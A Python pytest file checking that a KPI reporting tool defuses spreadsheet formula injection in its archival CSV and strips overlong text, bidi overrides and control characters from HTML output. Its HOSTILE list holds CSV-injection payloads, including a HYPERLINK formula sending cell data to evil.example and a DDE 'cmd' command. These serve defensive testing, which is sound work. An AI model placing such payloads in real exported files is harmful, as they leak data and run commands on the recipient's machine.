"""Untrusted text in a report: no formula in the archival CSV, no reversed or runaway text."""

import csv
import datetime as dt
import io

import pytest
from shared import ROOT

from kpireport.config import load_config
from kpireport.figures_csv import figures_csv
from kpireport.pipeline.report import compute_report
from kpireport.plugins import load_plugins
from kpireport.render import render_html
from kpireport.untrusted import CELL_LIMIT

NOW = dt.datetime(2026, 11, 25, 9, 0, tzinfo=dt.UTC)
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.fixture()
def acme():
    config = load_config(ROOT / "config.example.yaml")
    plugins = load_plugins()
    report = compute_report(config, config.client("acme-robotics"), plugins, now=NOW)
    return report, plugins


def test_no_cell_of_the_archival_csv_opens_as_a_formula(acme):
    report, _ = acme
    rows = report.kpis["top_queries"].rows
    for row, query in zip(rows, HOSTILE, strict=False):
        row["query"] = query
    cells = [c for r in csv.reader(io.StringIO(figures_csv(report))) for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
                and not _number(c)]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" in cells
    assert "'@SUM(A1:A9)" in cells and "'-2+3" in cells
    # Numbers stay numbers, negative ones included.
    values = {(r["key"], r["field"]): r["value"]
              for r in csv.DictReader(io.StringIO(figures_csv(report)))}
    assert float(values[("top_queries", "1.clicks")]) == rows[0]["clicks"]
    changes = [v for (_, f), v in values.items() if f == "change_previous" and v]
    assert any(v.startswith("-") for v in changes) and all(_number(v) for v in changes)


def _number(text: str) -> bool:
    try:  # "-12.5", "+87.0%", "-1,234"
        float(text.rstrip("%\u202f\u00a0 ").replace(",", ""))
    except ValueError:
        return False
    return True


def test_a_cell_of_data_is_cut_and_cannot_reverse_the_report(acme):
    report, plugins = acme
    rows = report.kpis["top_queries"].rows
    rows[0]["query"] = "x" * 131_000
    rows[1]["query"] = "robots \u202eevil\u2066 arm\x00\x1b[31m"
    html, _, _ = render_html(report, plugins)
    assert "x" * CELL_LIMIT not in html and "x" * (CELL_LIMIT - 1) + "…" in html
    for ch in ("\u202e", "\u2066", "\x00", "\x1b"):
        assert ch not in html
    assert "robots evil arm[31m" in html
